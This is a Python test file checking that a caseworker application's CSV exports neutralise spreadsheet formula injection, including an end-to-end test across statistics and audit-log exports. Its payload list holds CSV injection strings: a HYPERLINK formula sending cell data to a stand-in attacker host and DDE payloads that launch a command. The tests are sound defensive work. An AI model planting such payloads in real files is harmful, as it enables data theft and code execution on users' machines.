"""Issue 11, finding 8: no CSV export hands a spreadsheet a formula. A case reference such as
`=HYPERLINK(…)` typed by a caseworker comes out as text in the statistics and audit-log exports."""

from __future__ import annotations

import csv
import io

import pytest

from assistant.config import Settings
from assistant.web.csv_export import csv_text, safe_cell
from security.conftest import build_app
from security.helpers import ADMIN, CASEWORKER, SUPERVISOR, login
from security.live import http_client, live_server

FORMULAS = ['=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_text(value):
    assert safe_cell(value) == "'" + value
    (row,) = list(csv.reader(io.StringIO(csv_text(["a"], [[value]]), newline="")))[1:]
    assert row == ["'" + value]


def test_plain_cells_and_numbers_are_unchanged():
    assert [safe_cell(v) for v in ("2024-1234", "Jobcenter", "", -3, 0.5, None)] == ["2024-1234", "Jobcenter", "", -3,
                                                                                      0.5, None]


def _cells(content: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.lstrip("\ufeff"), newline="")) for cell in row]


def test_every_csv_export_of_the_server_neutralises_formulas(tmp_path):
    app = build_app(Settings(data_dir=tmp_path, purge_interval_hours=0))
    reference = FORMULAS[0]
    with live_server(app) as url, http_client(url) as caseworker, http_client(url) as supervisor, \
            http_client(url) as admin:
        login(caseworker, CASEWORKER), login(supervisor, SUPERVISOR), login(admin, ADMIN)
        call_id = caseworker.post("/calls", json={"source": "text", "analysis": False}).json()["call_id"]
        caseworker.post(f"/calls/{call_id}/turns", json={"speaker": "citizen", "text": "Jeg vil klage."})
        caseworker.post(f"/calls/{call_id}/end")
        linked = caseworker.put(f"/api/notes/{call_id}/case", json={"reference": reference,
                                                                     "received_date": "2024-03-01"})
        assert linked.status_code == 200, linked.text

        exports = {table: supervisor.get(f"/api/stats/export.csv?table={table}")
                   for table in ("flags", "categories", "resolved", "deadlines")}
        exports["audit"] = admin.get("/api/admin/audit/export.csv")
    for name, response in exports.items():
        assert response.status_code == 200, (name, response.text)
        cells = _cells(response.text)
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], name
    assert "'" + reference in _cells(exports["deadlines"].text)
    assert "'" + reference in _cells(exports["audit"].text)
